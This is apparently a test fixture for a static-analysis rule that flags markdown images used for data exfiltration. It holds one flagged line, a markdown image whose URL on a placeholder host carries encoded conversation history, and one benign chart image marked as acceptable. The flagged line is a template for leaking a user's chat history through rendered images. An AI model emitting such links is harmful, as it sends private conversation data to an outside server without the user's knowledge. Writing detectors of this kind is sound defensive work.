# ruleid: exfiltration-markdown-image
text = f"![x](https://a.invalid/p.png?d={encoded_history})"
# ok: exfiltration-markdown-image
text = f"![plot](https://charts.acme.invalid/p.png?w={width})"
